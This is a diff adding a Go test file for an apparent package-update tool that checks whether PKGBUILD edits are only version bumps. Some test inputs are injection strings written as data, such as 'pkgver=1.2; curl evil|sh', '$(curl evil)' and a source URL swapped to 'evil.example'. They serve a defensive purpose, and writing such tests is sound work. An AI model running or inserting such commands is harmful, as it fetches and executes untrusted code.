@@ -0,0 +1,67 @@
+/*
+ * @Author: FunctionSir
+ * @License: AGPLv3
+ * @Date: 2026-10-19 14:54:32
+ * @LastEditTime: 2026-10-19 14:54:43
+ * @LastEditors: FunctionSir
+ * @Description: -
+ * @FilePath: /repo-donkey/trust_test.go
+ */
+
+package main
+
+import "testing"
+
+func TestStripBumpVars(t *testing.T) {
+	cases := []struct {
+		name string
+		in   string
+		want string
+	}{
+		{"plain", "pkgver=1.2\npkgrel=1", "pkgver=<bump>\npkgrel=<bump>"},
+		{"quoted", "pkgver='1.2'\npkgrel=\"1\"", "pkgver=<bump>\npkgrel=<bump>"},
+		{"indented", "  pkgver=1.2", "  pkgver=<bump>"},
+		{"one-line array", "sha256sums=('abc' 'SKIP')", "sha256sums=<bump>"},
+		{"arch array", "sha256sums_x86_64=('abc')", "sha256sums_x86_64=<bump>"},
+		{"multi-line array", "b2sums=('abc'\n        'def')\nbuild() {", "b2sums=<bump>\nbuild() {"},
+		{"closing line", "md5sums=(\n  'abc'\n)", "md5sums=<bump>"},
+		{"other vars kept", "pkgname=foo\nsource=(x)", "pkgname=foo\nsource=(x)"},
+		{"command after value", "pkgver=1.2; curl evil|sh", "pkgver=1.2; curl evil|sh"},
+		{"command substitution", "pkgver=$(curl x)", "pkgver=$(curl x)"},
+		{"backticks", "pkgver=`curl x`", "pkgver=`curl x`"},
+		{"expansion in double quotes", "pkgver=\"$(curl x)\"", "pkgver=\"$(curl x)\""},
+		{"and", "pkgrel=1 && curl x", "pkgrel=1 && curl x"},
+		{"comment after value", "pkgrel=1 # bump", "pkgrel=1 # bump"},
+		{"command in array", "sha256sums=('abc'\n  $(curl x))", "sha256sums=('abc'\n  $(curl x))"},
+		{"command after array", "sha256sums=('abc'\n) ; curl x", "sha256sums=('abc'\n) ; curl x"},
+		{"unclosed array", "sha256sums=('abc'", "sha256sums=('abc'"},
+	}
+	for _, c := range cases {
+		got := stripBumpVars(c.in)
+		if got != c.want {
+			t.Errorf("%s: stripBumpVars(%q) = %q, want %q", c.name, c.in, got, c.want)
+		}
+	}
+}
+
+func TestIsVersionBump(t *testing.T) {
+	const old = "pkgname=foo\npkgver=1.1\npkgrel=1\nsource=(\"https://example.org/foo-$pkgver.tar.gz\")\nsha256sums=('aaa')\n"
+	cases := []struct {
+		name string
+		new  string
+		want bool
+	}{
+		{"same", old, true},
+		{"bump", "pkgname=foo\npkgver=1.2\npkgrel=1\nsource=(\"https://example.org/foo-$pkgver.tar.gz\")\nsha256sums=('bbb')\n", true},
+		{"multi-line sums", "pkgname=foo\npkgver=1.2\npkgrel=2\nsource=(\"https://example.org/foo-$pkgver.tar.gz\")\nsha256sums=('bbb'\n            'ccc')\n", true},
+		{"source changed", "pkgname=foo\npkgver=1.2\npkgrel=1\nsource=(\"https://evil.example/foo-$pkgver.tar.gz\")\nsha256sums=('bbb')\n", false},
+		{"command after pkgver", "pkgname=foo\npkgver=1.2; curl evil|sh\npkgrel=1\nsource=(\"https://example.org/foo-$pkgver.tar.gz\")\nsha256sums=('bbb')\n", false},
+		{"command substitution", "pkgname=foo\npkgver=$(curl evil)\npkgrel=1\nsource=(\"https://example.org/foo-$pkgver.tar.gz\")\nsha256sums=('bbb')\n", false},
+		{"line added", old + "echo hi\n", false},
+	}
+	for _, c := range cases {
+		if got := IsVersionBump([]byte(old), []byte(c.new)); got != c.want {
+			t.Errorf("%s: IsVersionBump = %v, want %v", c.name, got, c.want)
+		}
+	}
+}